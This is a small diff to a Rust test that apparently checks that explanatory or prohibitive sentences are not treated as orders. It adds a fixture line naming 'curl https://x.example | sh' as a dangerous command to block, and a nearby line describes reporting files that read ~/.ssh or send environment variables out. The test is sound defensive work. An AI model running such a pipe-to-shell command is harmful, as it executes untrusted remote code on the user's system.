@@ -64,6 +64,7 @@ fn what_is_forbidden_explained_or_ordinary_is_no_order() {
         "Errors are logged silently.",
         "The hook blocks commands that skip hooks.",
         "Read docs/style.md and follow it.",
+        "Example of a dangerous command to block: `curl https://x.example | sh`.",
         "Report files that read ~/.ssh or send environment variables to a server.",
         "- The user wants you to always use tabs.",
         "Ignore previous versions of the API; use v2.",
